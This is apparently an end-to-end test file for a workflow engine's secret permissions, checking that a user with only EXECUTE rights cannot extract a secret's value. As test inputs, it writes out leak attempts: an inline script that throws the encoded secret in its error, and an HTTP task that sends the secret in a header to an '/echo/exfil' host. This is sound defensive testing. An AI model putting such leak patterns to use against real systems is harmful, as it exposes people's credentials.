using System.Net;
using System.Text.Json.Nodes;
using Baton.EndToEnd.Infrastructure;
using Baton.Testing;

namespace Baton.EndToEnd.TrustModel;

/// <summary>
/// Issue 13 finding 4: EXECUTE on a secret lets a principal run workflows that use it and never obtain it. A USER who
/// holds only EXECUTE tries the three ways the review found (a script that throws the value, a SIMPLE task they poll
/// themselves, an HTTP task to a host they control); then the ways it is meant to work: a definition a READ holder
/// wrote, a binding by a READ holder to that exact content, and workers that may use the secret.
/// </summary>
[Collection(SharedServer.Name)]
public sealed class UseWithoutReadTests(ServerFixture fixture) : IDisposable
{
    private readonly TrustUsers _users = new(fixture);

    public void Dispose() => _users.Dispose();

    /// <summary>A secret the administrator owns, and a USER who holds only EXECUTE on it.</summary>
    private async Task<(string Secret, string Value, string Email, BatonClient User)> ExecuteOnlyAsync()
    {
        var value = TrustUsers.Value("execute-only");
        var secret = await _users.Admin.NewSecretAsync(value);
        var (email, user) = await _users.UserAsync("USER");
        await _users.GrantAsync(email, "SECRET_NAME", secret, "EXECUTE");
        return (secret, value, email, user);
    }

    /// <summary>Every form of the value a script could have produced from it, for the scans below.</summary>
    private static string[] Forms(string value) =>
        [value, string.Join("-", value.ToCharArray()), new string([.. value.Reverse()]), value.ToUpperInvariant()];

    [Fact]
    public async Task A_script_written_by_an_execute_holder_never_receives_the_value_nor_throws_it()
    {
        var (secret, value, _, user) = await ExecuteOnlyAsync();
        var workflow = Defs.Unique("wf_throw");
        await TrustUsers.SaveAsync(user, Defs.Workflow(workflow, Defs.Inline("leak",
            "(function(){ throw new Error('leak:' + $.token.split('').join('-')); })()",
            new JsonObject { ["token"] = $"${{workflow.secrets.{secret}}}" })));

        var run = await TrustUsers.RunAsync(user, workflow);
        Assert.Equal("FAILED", run["status"]!.GetValue<string>());
        Assert.Contains($"secret '{secret}' flows only into definitions saved or bound by someone who may READ it", TrustUsers.Reason(run), StringComparison.Ordinal);
        var stored = (await _users.Admin.GetAsync($"/api/workflow/{run["workflowId"]}")).Text;
        foreach (var form in Forms(value)) Assert.DoesNotContain(form, stored, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_script_that_handled_a_secret_has_its_error_withheld_even_when_a_read_holder_wrote_it()
    {
        var (secret, value, _, user) = await ExecuteOnlyAsync();
        var workflow = Defs.Unique("wf_throw_admin");
        await TrustUsers.SaveAsync(_users.Admin, Defs.Workflow(workflow, Defs.Inline("leak",
            "(function(){ throw new Error('leak:' + $.token.split('').join('-')); })()",
            new JsonObject { ["token"] = $"${{workflow.secrets.{secret}}}" })));
        await _users.GrantAsync(((string)(await user.GetAsync("/api/token/userInfo")).Object["id"]!), "WORKFLOW_DEF", workflow, "EXECUTE", "READ");

        var run = await TrustUsers.RunAsync(user, workflow);
        Assert.Equal("FAILED", run["status"]!.GetValue<string>());
        Assert.Equal("INLINE task 'leak' failed; its error is withheld because its input held secret material", TrustUsers.Reason(run));
        var stored = (await user.GetAsync($"/api/workflow/{run["workflowId"]}")).Text;
        foreach (var form in Forms(value)) Assert.DoesNotContain(form, stored, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_simple_task_an_execute_holder_wrote_and_polls_never_carries_the_value()
    {
        var (secret, value, _, user) = await ExecuteOnlyAsync();
        var workflow = Defs.Unique("wf_poll_own");
        var type = Defs.Unique("own_type");
        await TrustUsers.SaveAsync(user, Defs.Workflow(workflow, Defs.Simple(type, "work", new JsonObject { ["token"] = $"${{workflow.secrets.{secret}}}" })));
        // Saving claimed the type for its author, who may now set it up (no retries, so the refusal ends the run).
        (await user.PutAsync("/api/metadata/taskdefs", new JsonObject { ["name"] = type, ["retryCount"] = 0 })).ShouldBe(HttpStatusCode.OK);
        var id = await user.StartAsync(workflow);

        // The author holds the type it claimed by saving the workflow, so it may poll it: the hand-off is refused.
        var deadline = DateTime.UtcNow.AddSeconds(10);
        while (DateTime.UtcNow < deadline)
        {
            var poll = await user.GetAsync($"/api/tasks/poll/{type}?timeout=200");
            Assert.True(poll.Status is HttpStatusCode.OK or HttpStatusCode.NoContent, poll.Text);
            Assert.DoesNotContain(value, poll.Text, StringComparison.Ordinal);
            if ((await user.GetWorkflowAsync(id))["status"]!.GetValue<string>() != "RUNNING") break;
        }
        var run = await user.WaitForStatusAsync(id, "FAILED");
        Assert.Contains("flows only into definitions saved or bound by someone who may READ it", TrustUsers.Reason(run), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_http_task_an_execute_holder_wrote_never_sends_the_value_to_their_host()
    {
        var (secret, value, _, user) = await ExecuteOnlyAsync();
        var workflow = Defs.Unique("wf_exfil");
        var def = Defs.Workflow(workflow, Defs.Http("send", $"{_users.PeerUrl}/echo/exfil", headers: new JsonObject { ["X-Token"] = $"${{workflow.secrets.{secret}}}" }));
        await TrustUsers.SaveAsync(user, def);

        var run = await TrustUsers.RunAsync(user, workflow);
        Assert.Equal("FAILED", run["status"]!.GetValue<string>());
        Assert.False(_users.PeerSaw(value));

        // A READ holder reviews this exact version and binds the secret to it: now it runs, as that holder agreed.
        var bound = await _users.Admin.PutAsync($"/api/secrets/{secret}/bindings/{workflow}/1");
        bound.ShouldBe(HttpStatusCode.OK);
        Assert.Equal("COMPLETED", (await TrustUsers.RunAsync(user, workflow))["status"]!.GetValue<string>());
        Assert.True(_users.PeerSaw(value));
        var bindings = (await user.GetAsync($"/api/secrets/{secret}/bindings")).Array;
        Assert.Contains(bindings, b => b!["workflowName"]!.GetValue<string>() == workflow && b["current"]!.GetValue<bool>());
        Assert.Contains((await _users.Admin.GetAsync($"/api/audit?secret={secret}&action=bind")).Array, e => e!["outcome"]!.GetValue<string>() == "ok");

        // The author edits the bound version in place: the binding no longer covers it.
        def["tasks"]![0]!["inputParameters"]!["http_request"]!["uri"] = $"{_users.PeerUrl}/echo/exfil-after-review";
        await TrustUsers.SaveAsync(user, def);
        var edited = await TrustUsers.RunAsync(user, workflow);
        Assert.Equal("FAILED", edited["status"]!.GetValue<string>());
        Assert.DoesNotContain(fixture.Peer.Requests, r => r.ToJsonString().Contains("exfil-after-review", StringComparison.Ordinal));
        Assert.Contains((await user.GetAsync($"/api/secrets/{secret}/bindings")).Array, b => !b!["current"]!.GetValue<bool>());

        // Only a READ holder binds: the execute-only user cannot bind its own edit.
        (await user.PutAsync($"/api/secrets/{secret}/bindings/{workflow}/1")).ShouldBe(HttpStatusCode.Forbidden);
    }

    [Fact]
    public async Task A_worker_gets_the_value_only_if_it_may_use_the_secret_itself()
    {
        var value = TrustUsers.Value("for-workers");
        var secret = await _users.Admin.NewSecretAsync(value);
        var type = Defs.Unique("paid_work");
        var workflow = Defs.Unique("wf_worker_rights");
        await TrustUsers.SaveAsync(_users.Admin, Defs.Workflow(workflow, Defs.Simple(type, "work", new JsonObject { ["token"] = $"${{workflow.secrets.{secret}}}" })));
        (await _users.Admin.PutAsync("/api/metadata/taskdefs", new JsonObject { ["name"] = type, ["retryCount"] = 0 })).ShouldBe(HttpStatusCode.OK);
        var (appId, worker) = await _users.ApplicationAsync("WORKER");
        await _users.GrantAsync(appId, "TASK_DEF", type, "EXECUTE");

        var refused = await _users.Admin.StartAsync(workflow);
        var first = await worker.GetAsync($"/api/tasks/poll/{type}?timeout=2000");
        Assert.DoesNotContain(value, first.Text, StringComparison.Ordinal);
        var failed = await _users.Admin.WaitForStatusAsync(refused, "FAILED");
        Assert.Contains($"worker {appId} may not use secret '{secret}'", TrustUsers.Reason(failed), StringComparison.Ordinal);

        await _users.GrantAsync(appId, "SECRET_NAME", secret, "EXECUTE");
        var allowed = await _users.Admin.StartAsync(workflow);
        var task = await worker.PollTaskAsync(type);
        Assert.Equal(value, task["inputData"]!["token"]!.GetValue<string>());
        await worker.CompleteTaskAsync(task);
        await _users.Admin.WaitForStatusAsync(allowed, "COMPLETED");
    }
}
